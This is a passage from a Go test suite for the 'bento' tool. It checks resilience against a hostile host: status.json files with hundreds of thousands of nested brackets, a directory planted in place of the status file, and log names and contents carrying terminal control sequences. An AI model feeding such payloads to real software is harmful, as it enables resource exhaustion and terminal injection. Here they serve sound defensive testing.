		{"nested 600000 deep, over the size limit", func(t *testing.T) {
			upload(t, c, "/"+manifest.StatusFile, []byte(`{"format":1,"x":`+strings.Repeat("[", 600000)+strings.Repeat("]", 600000)+`}`))
		}, "over the 1.0 MiB limit"},
		{"nested 100000 deep, under the size limit", func(t *testing.T) {
			upload(t, c, "/"+manifest.StatusFile, []byte(`{"format":1,"x":`+strings.Repeat("[", 100000)+strings.Repeat("]", 100000)+`}`))
		}, "unreadable report: status.json"},
		{"a directory", func(t *testing.T) {
			if err := c.Mkdir("/" + manifest.StatusFile); err != nil {
				t.Fatal(err)
			}
		}, "reports/status.json is not a regular file"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c.Remove("/" + manifest.StatusFile)
			c.RemoveDirectory("/" + manifest.StatusFile)
			tc.plant(t)
			res, rss := serverBento(t, e, nil, "status", "--no-eval", "--wide", "--chroot-root", e.SSHD.Root, "--state-dir", stateDir)
			if res.ExitCode != 5 {
				t.Errorf("exit %d, want 5 (a host unreadable)", res.ExitCode)
			}
			if row := rowOf(res.Stdout, "alpha"); !strings.Contains(row, "unreadable") || !strings.Contains(row, tc.want) {
				t.Errorf("alpha's row %q lacks %q", row, tc.want)
			}
			if row := rowOf(res.Stdout, "beta"); !strings.Contains(row, "up-to-date") {
				t.Errorf("beta's row %q: one hostile host hid another", row)
			}
			if rss > 64<<20 {
				t.Errorf("bento status used %d MiB", rss>>20)
			}
		})
	}
}

// bento logs --follow while the host uploads a new log whose name and
// content carry terminal controls: the "==> name <==" header it prints
// for the new log, and the log, hold none.
func TestAttackFollowedLogNames(t *testing.T) {
	e := Start(t, hostsFleet("alpha"))
	alpha := e.Host(t, "alpha")
	e.Publish(t)
	c := e.SSHD.SFTP(t, alpha.SSH)
	upload(t, c, "/"+manifest.LogsDir+"/0000000000000000-first.log", []byte("first log\n"))

	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, Bento(t), "logs", "--follow", "--chroot-root", e.SSHD.Root, "alpha")
	cmd.Env = append(append(os.Environ(), fixture.Env()...), "NO_COLOR=1")
	pr, pw := io.Pipe()
	cmd.Stdout, cmd.Stderr = pw, pw
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); pw.Close(); close(done) }()
	defer func() { cmd.Process.Kill(); <-done }()

	var out bytes.Buffer
	lines := make(chan string, 64)
	go func() {
		defer close(lines)
		buf := make([]byte, 4096)
		var partial []byte
		for {
			n, err := pr.Read(buf)
			out.Write(buf[:n])
			partial = append(partial, buf[:n]...)
			for {
				i := bytes.IndexByte(partial, '\n')
				if i < 0 {
					break
				}
				lines <- string(partial[:i])
				partial = partial[i+1:]
			}
			if err != nil {
				return
			}
		}
	}()
	waitLine := func(want string) {
		t.Helper()
		for line := range lines {
			if strings.Contains(line, want) {
				return
			}
		}
		t.Fatalf("bento logs --follow ended without printing %q", want)
	}
	waitLine("first log")
	evil := "1111111111111111" + hostileText + ".log"
	upload(t, c, "/"+manifest.LogsDir+"/.tmp-upload", []byte("second log "+hostileText+"\n"))
	if err := c.PosixRename("/"+manifest.LogsDir+"/.tmp-upload", "/"+manifest.LogsDir+"/"+evil); err != nil {
		t.Fatal(err)
	}
	waitLine("second log")
	cmd.Process.Kill()
	<-done
	for range lines {
	}
	if !strings.Contains(out.String(), "==> 1111111111111111x") {
		t.Errorf("no header for the new log:\n%q", out.String())
	}
	assertNoControls(t, "bento logs --follow", out.String())
}
